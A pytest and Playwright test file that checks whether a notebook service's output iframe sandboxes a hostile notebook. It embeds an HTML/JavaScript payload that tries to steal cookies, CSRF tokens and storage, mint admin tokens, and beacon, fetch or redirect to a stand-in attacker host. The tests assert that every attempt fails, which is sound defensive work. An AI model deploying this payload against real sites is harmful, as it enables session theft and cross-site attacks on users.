"""What a hostile notebook's output tries in the page that shows it."""

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import nbformat
import psycopg
import pytest
from nbformat.v4 import new_code_cell, new_notebook
from playwright.async_api import Locator, Page, expect

from looking import looking
from pressroom.settings import Settings
from signed_in import Stage, come_in

ATTACK = """
<pre id="report"></pre>
<form id="form" method="post" action="/db/tokens"><input name="scopes" value="admin"></form>
<form id="away" method="post" action="EVIL/form"><input name="a" value="1"></form>
<a id="download" download href="data:text/plain,x">x</a>
<script>
(async () => {
  const report = {};
  const attempt = async (name, action) => {
    try { report[name] = String(await action()); } catch (error) { report[name] = "refused: " + error.name; }
  };
  await attempt("origin", () => self.origin);
  await attempt("cookie", () => document.cookie);
  await attempt("cookie of the parent", () => parent.document.cookie);
  await attempt("page of the parent", () => parent.document.body.innerHTML);
  await attempt("token of the parent", () => top.document.querySelector("[name=csrf_token]").value);
  await attempt("storage", () => localStorage.getItem("a"));
  await attempt("storage of the parent", () => parent.localStorage.getItem("a"));
  await attempt("database", () => indexedDB.open("x"));
  await attempt("api", async () => (await fetch("/db/tokens", {method: "POST", credentials: "include",
    headers: {"Content-Type": "application/json"}, body: '{"scopes": ["admin"]}'})).status);
  await attempt("api, blindly", async () => (await fetch("/execute", {method: "POST", mode: "no-cors",
    credentials: "include", body: "{}"})).type);
  await attempt("beacon", () => navigator.sendBeacon("EVIL/beacon", "x") && "called");
  await attempt("picture", () => new Promise((done, refused) => {
    const picture = new Image();
    picture.onload = () => done("loaded");
    picture.onerror = () => refused(new DOMException("", "Blocked"));
    picture.src = "EVIL/picture";
  }));
  await attempt("socket", () => new Promise((done, refused) => {
    const socket = new WebSocket("EVIL/socket".replace("http", "ws"));
    socket.onopen = () => done("open");
    socket.onerror = () => refused(new DOMException("", "Blocked"));
  }));
  await attempt("worker", () => navigator.serviceWorker.register("/db/worker.js"));
  await attempt("window", () => String(window.open("EVIL/window")));
  await attempt("message", () => { parent.postMessage({notice: "cancelled", html: "<b>x</b>"}, "*"); return "sent"; });
  await attempt("question", () => String(alert("x")));
  await attempt("form", () => { document.getElementById("form").submit(); return "called"; });
  await attempt("form to another site", () => { document.getElementById("away").submit(); return "called"; });
  await attempt("download", () => { document.getElementById("download").click(); return "called"; });
  await attempt("top", () => { top.location = "EVIL/top"; return "called"; });
  await attempt("link to the top", () => {
    const link = document.createElement("a");
    link.target = "_top";
    link.href = "EVIL/link";
    document.body.append(link);
    link.click();
    return "called";
  });
  document.getElementById("report").textContent = JSON.stringify(report);
})();
</script>
"""
REFUSED = {
    *("cookie", "cookie of the parent", "page of the parent", "token of the parent", "storage"),
    *("storage of the parent", "database", "api", "api, blindly", "picture", "socket", "worker", "top"),
}
LEAVING = '<meta http-equiv="refresh" content="0;url=EVIL/refresh"><script>location = "EVIL/location"</script>'


def written(home: Path, address: str) -> None:
    """The hostile notebooks, which know another site."""
    for name, attack in (("attack", ATTACK), ("leaving", LEAVING)):
        show = f"from IPython.display import HTML, display\ndisplay(HTML({attack.replace('EVIL', address)!r}))"
        nbformat.write(new_notebook(cells=[new_code_cell(show)]), home / f"{name}.ipynb")


async def attacked(page: Page, address: str) -> Locator:
    """What the notebook on this page reports of its attempts, none of which has got anywhere."""
    await page.goto(address)
    report = page.frame_locator("iframe.sheet").locator("#report")
    await expect(report).to_contain_text("link to the top")
    told = await report.evaluate("node => JSON.parse(node.textContent)")
    assert told["origin"] == "null"
    assert {name for name in told if told[name].startswith("refused")} >= REFUSED, told
    assert told["window"] == "null"
    assert page.url == address
    return report


async def left(page: Page, address: str) -> None:
    """The notebook on this page has tried to lead to another site, and the page stays."""
    await page.goto(address)
    await expect(page.locator("iframe.sheet")).to_be_visible()
    await page.wait_for_load_state("networkidle")
    assert page.url == address


@pytest.fixture
def evil() -> Iterator[tuple[str, list[str]]]:
    """Another site, and what it was asked for."""
    asked: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(204)
            self.end_headers()

        def do_POST(self) -> None:
            self.do_GET()

        def log_message(self, *_: Any) -> None:
            """Say nothing."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}", asked
    server.shutdown()
    thread.join()
    server.server_close()


async def test_what_a_hostile_notebook_puts_out_gets_nowhere(
    service: Any, home: Path, settings: Settings, evil: tuple[str, list[str]]
) -> None:
    address, asked = evil
    written(home, address)
    async with looking(service.url, "laptop", 1280) as at:
        await at.context.add_cookies([{"name": "pressroom_theme", "value": "dark", "url": at.url}])
        page = await at.page()
        popups: list[str] = []
        at.context.on("page", lambda page: popups.append(page.url))
        downloads: list[str] = []
        page.on("download", lambda download: downloads.append(download.url))
        numbers: list[int] = []
        for name in ("attack", "leaving"):
            sent = await page.request.post(f"{at.url}/execute", data={"input_path": str(home / f"{name}.ipynb")})
            assert sent.ok, await sent.text()
            numbers.append((await sent.json())["execution_id"])
        await attacked(page, f"{at.url}/executions/{numbers[0]}")
        await left(page, f"{at.url}/executions/{numbers[1]}")
        assert (asked, popups, downloads) == ([], [], [])
    assert settings.database_url is not None
    with psycopg.connect(settings.database_url.get_secret_value().replace("+psycopg", "")) as plain:
        assert plain.execute("SELECT count(*) FROM access_tokens").fetchone() == (0,)
        assert plain.execute("SELECT count(*) FROM notebook_executions").fetchone() == (2,)


async def test_it_gets_neither_the_session_nor_its_token_of_whoever_is_signed_in(
    stage: Stage, evil: tuple[str, list[str]]
) -> None:
    address, asked = evil
    home = stage.users / "cara"
    home.mkdir()
    written(home, address)
    numbers = [
        stage.ask("cara", "POST", "/execute", {"input_path": str(home / f"{name}.ipynb")})["execution_id"]
        for name in ("attack", "leaving")
    ]
    async with looking(stage.url, "laptop", 1280) as at:
        page = await come_in(at, "cara", "/home")
        popups: list[str] = []
        at.context.on("page", lambda page: popups.append(page.url))
        report = await attacked(page, f"{at.url}/executions/{numbers[0]}")
        secrets = [cookie.get("value", "") for cookie in await at.context.cookies(at.url)]
        secrets += [await page.locator("[name=csrf_token]").first.input_value()]
        answer = await page.request.get(f"{at.url}/session")
        session = await answer.json()
        secrets += [session["csrf_token"]]
        assert len(secrets) >= 3
        assert all(secrets), "there is something to steal"
        assert [secret for secret in secrets if secret in await report.inner_text()] == []
        await left(page, f"{at.url}/executions/{numbers[1]}")
        assert (await page.request.get(f"{at.url}/session")).ok, "the session goes on"
        assert (asked, popups) == ([], [])
    assert stage.rows("SELECT count(*) FROM access_tokens") == [(0,)]
    assert stage.rows("SELECT count(*) FROM notebook_executions") == [(2,)]
    assert stage.rows("SELECT count(*) FROM audit_log WHERE source <> 'oidc' OR NOT allowed") == [(0,)]
